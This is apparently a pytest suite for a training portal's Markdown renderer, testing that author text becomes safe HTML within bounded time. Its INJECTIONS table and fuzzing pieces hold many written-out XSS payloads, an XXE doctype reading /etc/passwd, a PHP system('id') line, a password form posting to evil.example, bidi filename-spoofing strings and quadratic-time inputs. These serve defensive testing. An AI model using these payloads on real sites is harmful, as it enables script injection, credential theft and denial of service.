"""Does what an author writes become harmless markup, whatever it is, and in bounded time?

How the words are stored and signed is asked in `test_services.py` and `test_seal.py`.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from contextlib import suppress
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from debriefs import text
from debriefs.exceptions import Refused
from debriefs.text import render, tidy

#: What a link to elsewhere carries, and nothing else does.
MARKS = {"class": "app-external", "rel": "noopener noreferrer nofollow external"}

Attributes = dict[str, str | None]


class Markup(HTMLParser):
    """Everything that a piece of HTML holds."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, Attributes]] = []
        self.words: list[str] = []
        self.others: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A tag with its attributes."""
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """Words between tags."""
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        """A comment."""
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        """A declaration, such as a document type."""
        self.others.append(decl)

    def unknown_decl(self, data: str) -> None:
        """A marked section, such as CDATA."""
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        """A processing instruction."""
        self.others.append(data)

    @property
    def links(self) -> list[Attributes]:
        """The attributes of every link that leads somewhere."""
        return [attributes for tag, attributes in self.tags if tag == "a" and "href" in attributes]


def leads_elsewhere(address: str) -> bool:
    """Whether a browser on a page of the portal would leave it, by the rules of the URL standard:
    it drops tabs and ends of lines, and takes a backslash for a slash."""
    kept = "".join(sign for sign in address if sign not in "\t\r\n").strip().replace("\\", "/")
    return kept.startswith("//") or bool(urlsplit(kept).scheme)


def assert_harmless(markup: str) -> Markup:
    """It holds only what `debriefs/text.py` lists; links elsewhere, and no others, are marked."""
    found = Markup(markup)
    assert not found.others
    for tag, attributes in found.tags:
        assert tag in text.TAGS, tag
        allowed = text.ATTRIBUTES.get(tag, set())
        extra = {name: value for name, value in attributes.items() if name not in allowed}
        address = attributes.get("href")
        if tag == "a" and address is not None:
            assert urlsplit(address.strip()).scheme.lower() in {"", "http", "https"}
            assert extra == (MARKS if leads_elsewhere(address) else {}), address
        else:
            assert not extra, (tag, extra)
    assert not set(markup) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert all(sign in "\t\n" or ord(sign) >= 32 for sign in markup)
    return found


# --- Injections ----------------------------------------------------------------------------------

INJECTIONS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "a broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script link": "[x](javascript:alert(1))",
    "a script link in capitals": "[x](JaVaScRiPt:alert(1))",
    "a script link with spaces": "[x]( javascript:alert(1))",
    "a script link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "a script link with an end of line": '<a href="java\nscript:alert(1)">x</a>',
    "a script link with an entity": '<a href="jav&#x61;script:alert(1)">x</a>',
    "a script link with a long entity": '<a href="&#0000106avascript:alert(1)">x</a>',
    "a script link with an entity for a tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a script link with a named colon": '<a href="javascript&colon;alert(1)">x</a>',
    "a script link after a control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "a script link by reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "a script link as an automatic one": "<javascript:alert(1)>",
    "a data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "a vbscript link": "[x](vbscript:msgbox(1))",
    "a file link": "[x](file:///etc/passwd)",
    "an image": "![x](https://evil.example/track.png)",
    "an image that fails": "<img src=x onerror=alert(1)>",
    "an SVG that loads": "<svg onload=alert(1)><circle/></svg>",
    "an SVG with a script link": '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    "mathematics": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a base": '<base href="https://evil.example/">',
    "a form": '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "an iframe": '<iframe src="https://evil.example"></iframe>',
    "an object": '<object data="https://evil.example"></object><embed src="x">',
    "a style": "<style>@import url(https://evil.example)</style>",
    "a style attribute": '<p style="position:fixed;inset:0">x</p>',
    "an event": "<p onclick=alert(1)>x</p>",
    "an event on a link": '<a href="/x" onmouseover="alert(1)">x</a>',
    "an event in a link": '[x](https://a.example/"onmouseover="alert(1))',
    "an event in a title": "[x](/y '\"onmouseover=\"alert(1)')",
    "an identity": '<p id="main" name="x" class="govuk-button">x</p>',
    "a target": '<a href="/x" target="_blank">x</a>',
    "a comment": "before <!-- <script>alert(1)</script> --> after",
    "a comment of old browsers": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "a marked section": "<![CDATA[<script>alert(1)</script>]]>",
    "a document type": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "a processing instruction": "<?php system('id') ?>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by a table": "<table><a href=javascript:alert(1)>x</a></table>",
    "an element of our own": "<portal-menu>x</portal-menu>",
    "a code block of markup": "```\n<script>alert(1)</script>\n```",
    "a NUL in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "a NUL in an address": "[x](java\x00script:alert(1))",
}


@pytest.mark.parametrize("source", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_an_injection_becomes_harmless(source: str) -> None:
    assert_harmless(render(source).html)
    around = render(f"Before.\n\n{source}\n\nAfter.")
    assert_harmless(around.html)


def test_what_an_author_may_write_is_kept() -> None:
    source = (
        "## Heading\n\nSome *stress* and **more**, `code`, H<sub>2</sub>O.\n\n"
        "- one\n- two\n\n3. three\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---"
    )
    tags = {tag for tag, _ in assert_harmless(render(source).html).tags}
    assert tags >= {
        "h3", "em", "strong", "code", "sub", "ul", "li", "ol", "blockquote", "table", "th", "td",
        "hr",
    }  # fmt: skip


@pytest.mark.parametrize(("level", "tag"), [(1, "h3"), (2, "h3"), (3, "h3"), (4, "h4"), (6, "h4")])
def test_headings_stand_below_those_of_the_page(level: int, tag: str) -> None:
    assert render(f"{'#' * level} Words").html == f"<{tag}>Words</{tag}>"


# --- Links ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "[x](https://a.example)",
        "[x](http://a.example/path?q=1#f)",
        '[x](https://a.example "With a title")',
        '<a title="First" href="https://a.example">x</a>',
        "<https://a.example>",
        "[x][1]\n\n[1]: https://a.example",
        "[x](HTTPS://A.EXAMPLE)",
        "[x](//a.example)",
        "[x](/\\a.example)",
        '<a href="\\\\a.example">x</a>',
        "[x](https:a.example)",
        "[x](http:///a.example)",
        '<a href="/&#9;/a.example">x</a>',
        '<a href="&#10;//a.example">x</a>',
    ],
)
def test_a_link_to_another_site_is_marked_and_tells_it_nothing(source: str) -> None:
    (link,) = assert_harmless(render(source).html).links
    assert {name: link.get(name) for name in MARKS} == MARKS


@pytest.mark.parametrize(
    "source",
    ["[x](/library/)", "[x](#lesson-1)", "[x](?page=2)", "[x](lantern)", "[x](../a 'T')", "[x]()"],
)
def test_a_link_within_the_portal_is_not_marked(source: str) -> None:
    (link,) = assert_harmless(render(source).html).links
    assert not set(link) & set(MARKS)


@pytest.mark.parametrize(
    "source",
    [
        "Write to a.b@force.police.uk today.",
        "<a.b@force.police.uk>",
        "[write](mailto:a.b@force.police.uk)",
        '<a href="mailto:a.b@force.police.uk">write</a>',
        '<a href="&#109;ailto:a.b@force.police.uk">write</a>',
    ],
)
def test_an_address_of_mail_never_becomes_a_link(source: str) -> None:
    rendered = render(source)
    assert not assert_harmless(rendered.html).links
    assert "mailto" not in rendered.html


def test_nothing_becomes_a_link_by_itself() -> None:
    rendered = render("See https://a.example, www.a.example and a.example/b.")
    assert not assert_harmless(rendered.html).links
    assert "https://a.example" in rendered.text


# --- Invisible characters, and plain text --------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "gp\u202e4pm.exe",
        "gp&#x202e;4pm.exe",
        "\u2066gp\u20694pm.exe",
        "gp&#8297;4pm.exe",
        "g\x00p4pm.exe",
        "gp\x1b4pm.exe",
        "gp\ud8004pm.exe",
        "gp\x9b4pm.exe",
    ],
)
def test_characters_that_deceive_are_taken_out(source: str) -> None:
    rendered = render(source)
    assert rendered.html == "<p>gp4pm.exe</p>"
    assert rendered.text == "gp4pm.exe"


def test_names_written_from_right_to_left_are_kept() -> None:
    assert render("שלום and مرحبا").text == "שלום and مرحبا"


def test_what_is_kept_of_a_source_has_unix_ends_of_lines_and_no_control_characters() -> None:
    assert tidy("  a\r\nb\rc\x00\x07\n") == "a\nb\nc"
    assert tidy("\x00 \x0b") == ""


def test_plain_text_holds_the_words_and_no_tags() -> None:
    rendered = render(
        '## One\n\nTwo *three* [four](https://a.example "a > b <i>")<br>five\n\n'
        "| six | seven |\n|---|---|\n| eight | nine |\n\n<b>ten</b> <!-- eleven -->"
    )
    assert rendered.text.split() == (
        ["One", "Two", "three", "four", "five", "six", "seven", "eight", "nine", "ten"]
    )


def test_plain_text_keeps_a_block_a_line() -> None:
    assert render("One\n\n- two\n- three\n\n> four").text == "One\ntwo\nthree\nfour"


def test_signs_that_were_written_as_words_are_words_in_the_plain_text() -> None:
    rendered = render("Fewer than 5 &lt; 6 & `<b>`")
    assert rendered.text == "Fewer than 5 < 6 & <b>"
    assert "<b>" not in rendered.html


# --- Whatever else -------------------------------------------------------------------------------

#: Pieces from which harm is made, more often than from letters.
pieces = st.sampled_from(
    [
        *("<", ">", "</", "<!--", "-->", "<![CDATA[", "]]>", "<?", "&", "&#", ";", '"', "'", "="),
        *("`", "[", "](", ")", "!", "\\", "\n", "\n\n", "\t", "    ", "- ", "1. ", "> ", "# "),
        *("|", "|-|-|", "*", "**", "_", "a", "href=", "title=", "javascript:", "data:", "https:"),
        *("//a.example", "mailto:", "a@b.example", "<a ", "<svg ", "onload=", "<p>", "<td>"),
        *("<table>", "<pre>", "<script>", "</script>", "<style>", "<th></th>", "\x00", "\u202e"),
        *("&#x202e;", "&colon;", "\ud800"),
    ]
)
anything = st.one_of(
    st.lists(pieces, max_size=25).map("".join),
    st.text(alphabet=st.characters(), max_size=60),
    st.lists(st.one_of(pieces, st.text(alphabet=st.characters(), max_size=4)), max_size=15).map(
        "".join
    ),
)


@settings(max_examples=400)
@given(source=anything)
@example(source="[x](http://[::1)")
@example(source='<a href="http://[">x</a>')
def test_whatever_is_written_is_refused_or_harmless(source: str) -> None:
    try:
        rendered = render(source)
    except Refused:
        return
    assert_harmless(rendered.html)
    if "<" not in source and "&" not in source:
        assert "<" not in rendered.text
    rendered.html.encode()
    rendered.text.encode()


@settings(max_examples=100)
@given(source=anything)
def test_what_is_kept_is_kept_as_it_is_when_it_is_saved_again(source: str) -> None:
    once = tidy(source)
    assert tidy(once) == once


def test_an_empty_text_is_empty() -> None:
    assert render("") == text.Rendered("", "")


# --- Paragraphs, to lead to ---------------------------------------------------------------------


def test_each_paragraph_has_a_number_in_the_order_of_the_text() -> None:
    rendered = render(
        "## One\n\nTwo *three*\n\n- four\n- five\n\n    - six\n\n> seven\n\n    eight\n\n"
        "| nine | ten |\n|---|---|\n| eleven | twelve |"
    ).html
    anchored = text.anchored(rendered, "section-ab12cd34")
    found = re.findall(r'<(\w+) id="section-ab12cd34-p(\d+)">', anchored)
    assert [int(number) for _, number in found] == list(range(1, len(found) + 1))
    assert text.paragraphs(rendered) == (
        ["One", "Two three", "four", "five", "six", "seven", "eight", "nine ten", "eleven twelve"]
    )
    tags = [tag for tag, _ in found]
    assert tags[:2] == ["h3", "p"]
    assert tags[-3:] == ["pre", "tr", "tr"]
    assert len(tags) == 9


@pytest.mark.parametrize(
    ("source", "markup"),
    [
        ("<p></p>\n\n<p>&nbsp;</p>\n\nWords", '<p id="a-p1">Words</p>'),
        ("- one\n\n- two", '<li>\n<p id="a-p1">one</p>\n</li>'),
        ("> quoted", '<blockquote>\n<p id="a-p1">quoted</p>\n</blockquote>'),
        ('[x](/y "a > b <p>c</p>") z', '<p id="a-p1"><a title="a'),
        ("&lt;p&gt;no tag&lt;/p&gt;", '<p id="a-p1">&lt;p&gt;no tag&lt;/p&gt;</p>'),
    ],
)
def test_what_is_empty_what_only_stands_around_and_what_is_no_tag_gets_no_number(
    source: str, markup: str
) -> None:
    anchored = text.anchored(render(source).html, "a")
    assert markup in anchored.replace('href="/y" ', "")
    assert anchored.count("a-p1") == 1


def test_a_text_without_words_has_no_paragraphs() -> None:
    assert text.anchored("", "a") == ""
    assert text.anchored("<hr>", "a") == "<hr>"
    assert text.paragraphs("<p> </p>") == []


@settings(max_examples=200)
@given(source=anything)
@example(source='<a title="<p>">x</a>')
@example(source="<table><tr><td><p>a</p>b</td></tr></table>")
def test_names_for_paragraphs_change_nothing_else(source: str) -> None:
    try:
        markup = render(source).html
    except Refused:
        return
    anchored = text.anchored(markup, "section-ab12cd34")
    ids = [
        value for _, names in Markup(anchored).tags for key, value in names.items() if key == "id"
    ]
    assert ids == [f"section-ab12cd34-p{n}" for n in range(1, len(ids) + 1)]
    assert re.sub(r' id="section-ab12cd34-p\d+"', "", anchored) == markup
    assert Markup(anchored).words == Markup(markup).words
    assert len(text.paragraphs(markup)) == len(ids)


# --- Bounded time --------------------------------------------------------------------------------

#: Each makes a text of about that many characters which some parser takes long over.
PATHOLOGICAL: dict[str, Callable[[int], str]] = {
    "brackets": lambda size: "[" * size,
    "images": lambda size: "![" * (size // 2),
    "links within bounds": lambda size: ("[a](" * 390)[:size] + '"' * (size - 4 * 390),
    "stars": lambda size: "***a" * (size // 4),
    "stars and lines": lambda size: "**_a" * (size // 4),
    "backticks": lambda size: "".join("`" * (n % 40 + 1) + " " for n in range(size // 22)),
    "quotes": lambda size: ">" * size,
    "quotes and spaces": lambda size: "> " * (size // 2),
    "less-than": lambda size: "<" * size,
    "open tags": lambda size: "<x " * (size // 3),
    "open breaks": lambda size: "<br " * (size // 4),
    "open lists": lambda size: "<ul><li>" * (size // 8),
    "open preformatted": lambda size: "<pre>" * (size // 5),
    "open addresses": lambda size: '<a href="' * (size // 9),
    "open comments": lambda size: "<!--" * (size // 4),
    "tags within bounds": lambda size: ("<x " * 190)[:size] + "a" * (size - 570),
    "ampersands": lambda size: "&" * size,
    "entities": lambda size: "&#1" * (size // 3),
    "backslashes": lambda size: "\\" * size,
    "numbers": lambda size: "1. " * (size // 3),
    "short items": lambda size: "-\n" * (size // 2),
    "nested items": lambda size: "\n".join("    " * n + "- a" for n in range(int(size**0.5 / 1.5))),
    "a wide table": lambda size: "a|" * (size // 8) + "\n" + "-|" * (size // 8) + "\n|" * 9,
    "a long table": lambda size: "a|b\n-|-\n" + "|\n" * (size // 2),
    "paragraphs": lambda size: "a\n\n" * (size // 3),
    "one word": lambda size: "a" * size,
    "spaces": lambda size: "a" + " " * (size - 2) + "b",
}


def seconds(source: str) -> float:
    """How long the processor works on the text, at best of three; a refusal counts as well."""
    best = float("inf")
    for _ in range(3):
        began = time.process_time()
        with suppress(Refused):
            render(source)
        best = min(best, time.process_time() - began)
    return best


@pytest.mark.parametrize("make", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_no_text_takes_more_than_its_length_in_time(make: Callable[[int], str]) -> None:
    small, large = make(3_000), make(12_000)
    # Four times the text takes four times as long; a quadratic parser would take sixteen times.
    # Below a few hundredths of a second a clock says nothing.
    assert seconds(large) < max(9 * seconds(small), 0.1)


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("a" * (text.LONGEST + 1), "characters"),
        ("[" * (text.MOST_BRACKETS + 1), "opening square brackets"),
        ("<" * (text.MOST_ANGLES + 1), "less-than signs"),
        ("a" + "\na" * (text.MOST_LINES + 1), "lines"),
        ("|" * (text.MOST_COLUMNS + 2), "columns"),
        ("1. " * 5_000, "lists within lists"),
    ],
)
def test_what_would_take_too_long_is_refused_with_what_to_do(source: str, words: str) -> None:
    with pytest.raises(Refused, match=words) as refused:
        render(source)
    assert refused.value.reason.endswith(".")


def test_a_text_at_its_bounds_is_taken() -> None:
    assert render("word " * (text.LONGEST // 5)).text
    assert render("[" * text.MOST_BRACKETS).text
    assert render("\n".join(["a < b"] * text.MOST_ANGLES)).text
    row = "|".join(["a"] * text.MOST_COLUMNS)
    assert render(f"{row}\n{'|'.join(['-'] * text.MOST_COLUMNS)}\n{row}").html.count("<td>") == 20
